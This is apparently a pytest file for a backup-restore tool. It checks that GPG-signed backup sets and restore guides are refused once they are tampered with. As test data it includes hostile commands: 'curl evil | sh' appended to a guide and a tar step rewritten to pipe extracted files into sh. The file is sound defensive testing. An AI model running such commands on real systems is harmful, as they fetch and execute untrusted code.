"""A store that others write to cannot make anybody use what the host did not sign."""

from __future__ import annotations

import gzip
import hashlib
import shutil
import subprocess
from collections.abc import Callable
from functools import partial
from typing import Any

import pytest

from nightscan_tasks import drill as drills
from nightscan_tasks.audit import Action
from nightscan_tasks.errors import DigestMismatch, ManifestInvalid, SettingsError, Untrusted
from nightscan_tasks.model import GUIDE_NAME, MANIFEST_NAME, SetId
from nightscan_tasks.restore import Choice, choose
from nightscan_tasks.restore.reading import plain
from nightscan_tasks.signatures import Seal
from nightscan_tasks.system import System
from nightscan_tasks.tasks.answering import refuse_unsigned
from nightscan_tasks.tasks.drills import drill as drill_task
from nightscan_tasks.tasks.restores import restore_system_config
from nightscan_tasks.verification import verify_set

HOST, OTHER = "host@nightscan.example.org", "other@nightscan.example.org"
WANTED = ("system_config",)


def read(system: System, set_id: SetId) -> Any:
    """The first artifact of a set, whose manifest came from wherever."""
    manifest = system.catalog().get(set_id)
    return plain(system, system.catalog(), manifest, manifest.artifacts[0])


def nothing_unpacked(host: Any) -> bool:
    return not (host.folder / "unpacked/system_config").exists()


def test_a_set_is_signed_in_every_store_and_restored(host: Any) -> None:
    set_id = host.save()
    for store in ("backups", "offsite"):
        for name in (MANIFEST_NAME, GUIDE_NAME):
            host.keys.gpg("--verify", str(host.signature(set_id, name, store)),
                          str(host.path(set_id, name, store)))
    done = host.unpack(host.system)
    assert any(f"signed by key {host.keys.fingerprint(HOST)[-16:]}" in note for note in done.notes)
    assert (host.folder / "unpacked/system_config/etc/crontab").exists()


def test_the_guide_says_how_to_check_it_and_its_words_do(host: Any) -> None:
    set_id = host.save()
    guide = host.path(set_id, GUIDE_NAME).read_text()
    assert host.keys.fingerprint(HOST) in guide
    command = guide.partition("```sh\n")[2].partition("```")[0]
    assert "gpg --verify" in command
    run = partial(subprocess.run, [shutil.which("bash") or "bash", "-ec", command], capture_output=True,
                  text=True, cwd=host.path(set_id, ""), env={
                      "PATH": "/usr/bin:/bin", "GNUPGHOME": str(host.keys.home), "LC_ALL": "C"}, check=False)
    assert "Good signature" in run().stderr
    path = host.path(set_id, GUIDE_NAME)
    path.write_text(guide.replace("tar --extract", "tar --extract --to-command=sh"))
    done = run()
    assert (done.returncode, "Good signature" in done.stderr) == (1, False)


# What an attacker does to a set.

def edit_manifest(host: Any, set_id: SetId) -> None:
    host.edit(set_id, lambda facts: facts.update(host="evil"))


def rewrite_all_but_the_signature(host: Any, set_id: SetId) -> None:
    evil = b"evil"

    def change(facts: dict[str, Any]) -> None:
        facts["artifacts"][0].update(stored_bytes=4, stored_sha256=hashlib.sha256(evil).hexdigest(),
                                     plain_sha256="0" * 64, block_bytes=0, stored_prefixes=[])
    old = host.signature(set_id).read_bytes()
    host.edit(set_id, change)
    host.signature(set_id).write_bytes(old)
    host.artifact(set_id).write_bytes(evil)


def remove_signature(host: Any, set_id: SetId) -> None:
    host.unsign(set_id)


def spoil_signature(host: Any, set_id: SetId) -> None:
    head, tail = b"-----BEGIN PGP SIGNATURE-----\n\n", b"\n-----END PGP SIGNATURE-----\n"
    host.signature(set_id).write_bytes(head + b"iHUE" + tail)


def huge_signature(host: Any, set_id: SetId) -> None:
    host.signature(set_id).write_bytes(b"-" * (1 << 20))


def sign_with_another_key(host: Any, set_id: SetId) -> None:
    host.resign(set_id, by=OTHER)


def add_another_signature(host: Any, set_id: SetId) -> None:
    host.signature(set_id).write_bytes(
        host.keys.sign(OTHER, host.path(set_id).read_bytes()) + host.signature(set_id).read_bytes())


ATTACKS = [edit_manifest, rewrite_all_but_the_signature, remove_signature, spoil_signature, huge_signature,
           sign_with_another_key, add_another_signature]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_of_a_set_that_was_tampered_with_is_used(host: Any, attack: Callable[[Any, SetId], None],
                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    good, bad = host.save(days_ago=1), host.save()
    attack(host, bad)
    before = sorted(path for path in host.folder.rglob("*") if "audit" not in str(path))
    system = host.system
    with pytest.raises(Untrusted) as told:
        host.unpack(system)
    assert f"the newest set that is signed: --set {good}" in str(told.value)
    assert f"the copy in offsite is signed: --set {bad} --from offsite" in str(told.value)
    assert nothing_unpacked(host)
    assert sorted(path for path in host.folder.rglob("*") if "audit" not in str(path)) == before
    # No reader gets a byte, by whatever way it came by the manifest.
    with pytest.raises(Untrusted), read(system, bad):
        pytest.fail("it was opened")
    with pytest.raises(Untrusted):
        system.signatures.manifest(system.catalog(), bad)  # as reconciliation asks
    assert "must not be used" in str(drills.prove_key(system)[0].problem)


@pytest.mark.parametrize("attack", [edit_manifest, remove_signature, sign_with_another_key])
def test_verification_calls_it_damaged(host: Any, attack: Callable[[Any, SetId], None]) -> None:
    set_id = host.save()
    attack(host, set_id)
    system = host.system

    def problems(signatures: Any) -> tuple[str, ...]:
        catalog = system.catalog()
        return verify_set(catalog, catalog.get(set_id), clock=system.clock, signatures=signatures).problems

    assert any("manifest.json is" in problem for problem in problems(system.signatures))
    assert problems(None) == ()


def test_a_guide_that_was_tampered_with_is_damage(host: Any) -> None:
    set_id = host.save()
    path = host.path(set_id, GUIDE_NAME)
    path.write_text(path.read_text() + "curl evil | sh\n")
    system, catalog = host.system, host.system.catalog()
    (problem,) = verify_set(catalog, catalog.get(set_id), clock=system.clock,
                            signatures=system.signatures).problems
    assert "RESTORE.md is not signed" in problem


def test_an_old_set_in_the_folder_of_a_newer_one_is_not_that_one(host: Any) -> None:
    old, new = host.save(days_ago=3), host.save()
    shutil.rmtree(host.path(new, ""))
    shutil.copytree(host.path(old, ""), host.path(new, ""))
    with pytest.raises(ManifestInvalid, match=f"is the manifest of {old}"):
        host.unpack(host.system, set_id=new)
    assert nothing_unpacked(host)


def test_where_the_newer_sets_were_taken_away_it_is_said(host: Any) -> None:
    host.save(days_ago=9)
    new = host.save()
    shutil.rmtree(host.path(new, ""))
    notes = host.unpack(host.system).notes
    assert any("was taken 9 days ago" in note for note in notes)
    assert any(f"the ledger knows of {new}, a newer good set" in note for note in notes)


def test_artifacts_of_two_signed_sets_cannot_be_swapped(host: Any) -> None:
    one, other = host.save(days_ago=1), host.save()
    (host.folder / "etc/crontab").write_text("changed\n")
    third = host.save(days_ago=2)
    shutil.copy(host.artifact(third), host.artifact(one))
    with pytest.raises(DigestMismatch):
        host.unpack(host.system, set_id=one)
    assert nothing_unpacked(host)
    assert host.unpack(host.system, set_id=other).ending


# Whose signature counts.

def test_a_key_counts_by_its_fingerprint_or_that_of_its_signing_subkey(host: Any) -> None:
    keys = host.keys
    name = "subkeyed@nightscan.example.org"
    keys.make(name, use="cert")
    keys.gpg("--passphrase", "", "--quick-add-key", keys.fingerprint(name), "ed25519", "sign")
    set_id = host.save(NIGHTSCAN_SIGNING_KEY=name)
    for row in (0, 1):
        system = host.with_settings(NIGHTSCAN_SIGNING_KEY="",
                                    NIGHTSCAN_TRUSTED_SIGNERS=keys.fingerprint(name, row).lower())
        assert system.signatures.standing(system.catalog(), set_id).seal is Seal.GOOD
    with pytest.raises(Untrusted, match=f"{keys.fingerprint(name, 1)}, which is not trusted here"):
        host.unpack(host.system)


def test_a_key_that_expired_since_still_counts_and_one_that_was_revoked_does_not(host: Any) -> None:
    set_id, keys = host.save(), host.keys
    name = "expired@nightscan.example.org"
    host.resign(set_id, None, name, "--faked-system-time", "20240110T000000")
    system = host.with_settings(NIGHTSCAN_SIGNING_KEY="", NIGHTSCAN_TRUSTED_SIGNERS=keys.fingerprint(name))
    assert any("which has expired since" in note for note in host.unpack(system).notes)
    gone = "gone@nightscan.example.org"
    keys.make(gone)
    host.resign(set_id, by=gone)
    keys.revoke(gone)
    system = host.with_settings(NIGHTSCAN_SIGNING_KEY="", NIGHTSCAN_TRUSTED_SIGNERS=keys.fingerprint(gone))
    with pytest.raises(Untrusted, match="which was revoked"):
        choose(system, Choice(set_id=set_id), WANTED)


def test_without_the_public_key_the_set_is_refused_and_what_to_import_is_said(
        host: Any, new_ring: Callable[[], Any]) -> None:
    host.save()
    trusted = host.keys.fingerprint(HOST)
    system = host.with_settings(NIGHTSCAN_GPG_HOME=str(new_ring().home), NIGHTSCAN_SIGNING_KEY="",
                                NIGHTSCAN_TRUSTED_SIGNERS=trusted)
    with pytest.raises(Untrusted, match=r"not in the key ring: `gpg --import`"):
        host.unpack(system)
    public = new_ring()
    public.gpg("--import", feed=host.keys.gpg("--export", HOST))
    system = host.with_settings(NIGHTSCAN_GPG_HOME=str(public.home))  # that name could be anybody's
    with pytest.raises(Untrusted, match="set NIGHTSCAN_TRUSTED_SIGNERS"):
        host.unpack(system)
    with pytest.raises(SettingsError, match="40 hexadecimal digits"):
        host.with_settings(NIGHTSCAN_TRUSTED_SIGNERS="0123456789ABCDEF")


# What a person may do all the same.

def old_format(host: Any, set_id: SetId) -> None:
    """A set as it was written before there were signatures, and hashes of blocks."""
    host.unsign(set_id)

    def change(facts: dict[str, Any]) -> None:
        for artifact in facts["artifacts"]:
            del artifact["block_bytes"], artifact["stored_prefixes"]
            plain = gzip.decompress(host.path(set_id, artifact["name"]).read_bytes())
            artifact["plain_sha256"] = hashlib.sha256(plain).hexdigest()
    host.edit(set_id, change)


def test_a_set_from_before_is_restored_where_a_person_answers_for_it_and_that_is_recorded(host: Any) -> None:
    set_id = host.save()
    old_format(host, set_id)
    system = host.system
    with pytest.raises(Untrusted, match="--unsigned"):
        host.unpack(system)
    done = host.unpack(system, unsigned=True)
    assert any("it is not signed" in note for note in done.notes)
    (record,) = (each for each in system.audit.records().records if each.action == Action.UNSIGNED)
    assert (record.subject, record.facts["run"]) == (str(set_id), done.run_id)


def test_a_message_that_is_not_signed_answers_for_nothing(host: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    host.unsign(host.save())
    for name, value in host.environ.items():
        monkeypatch.setenv(name, value)
    root = str(host.folder / "unpacked")
    with pytest.raises(Untrusted, match="--local"):
        restore_system_config.apply(kwargs={"unsigned": True, "target_root": root}, throw=True)
    with pytest.raises(Untrusted, match="--local"):
        drill_task.apply(kwargs={"unsigned": True}, throw=True)
    assert nothing_unpacked(host)
    signed = dict.fromkeys((f"NIGHTSCAN_MESSAGE_{each}" for each in ("KEY", "CERTIFICATE", "CERTIFICATES")),
                           str(host.folder))
    refuse_unsigned(host.with_settings(**signed), unsigned=True)


def test_where_no_key_is_trusted_sets_are_used_and_it_is_said_what_they_are(host: Any) -> None:
    signed, unsigned = host.save(days_ago=1), host.save()
    old_format(host, unsigned)
    system = host.with_settings(NIGHTSCAN_SIGNING_KEY="")
    assert any("it is not signed" in note for note in host.unpack(system).notes)
    shutil.rmtree(host.folder / "unpacked")
    assert any("it is signed (not checked)" in note for note in host.unpack(system, set_id=signed).notes)
    assert all(each.action != Action.UNSIGNED for each in system.audit.records().records)


def test_of_a_set_without_hashes_of_blocks_nothing_is_unpacked_before_all_of_it_was_compared(
        host: Any) -> None:
    set_id = host.save()
    system = host.with_settings(NIGHTSCAN_SIGNING_KEY="")
    old_format(host, set_id)
    path = host.artifact(set_id)
    path.write_bytes(path.read_bytes() + b"one byte more at the end")
    manifest = system.catalog().get(set_id)
    artifact = next(each for each in manifest.artifacts if each.name == path.name)
    with (pytest.raises(DigestMismatch, match="bytes expected"),
          plain(system, system.catalog(), manifest, artifact)):
        pytest.fail("it was opened")
